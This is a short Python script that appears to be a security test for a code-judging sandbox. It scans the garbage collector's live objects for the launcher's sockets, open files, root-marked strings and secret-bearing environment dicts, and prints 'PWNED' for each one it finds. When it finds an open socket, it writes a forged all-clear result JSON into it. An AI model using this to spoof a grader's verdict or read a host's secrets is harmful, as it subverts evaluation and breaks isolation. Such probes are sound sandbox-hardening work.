# Tries: to find sockets, files and functions of whoever started it among all live objects, and to use them.
# Must get: AC, for it answers honestly afterwards.
import gc
import io
import socket
import sys

gc.unfreeze()
mine = (sys.stdin, sys.stdout, sys.stderr, sys.__stdin__, sys.__stdout__, sys.__stderr__)
known = {id(part) for stream in mine for part in (stream, stream.buffer, stream.buffer.raw)}
for one in gc.get_objects():
    try:
        if isinstance(one, socket.socket) and one.fileno() >= 0:
            print("PWNED a socket")
            one.sendall(b'{"status": 0, "signal": null, "cpu_s": 0, "wall_s": 0, "memory_kib": 0, "stopped": null}\n')
        elif isinstance(one, io.IOBase) and id(one) not in known and not one.closed and one.fileno() > 2:
            print("PWNED a file", one)
        elif isinstance(one, (bytes, str)) and len(one) < 10000 and "@ROOT@" in str(one) and "Tries:" not in str(one):
            print("PWNED a text", one)
        elif isinstance(one, dict) and ("@SECRET@" in one or b"@SECRET@" in one):
            print("PWNED an environment")
    except (OSError, ReferenceError, ValueError):
        pass
# @ANSWER@
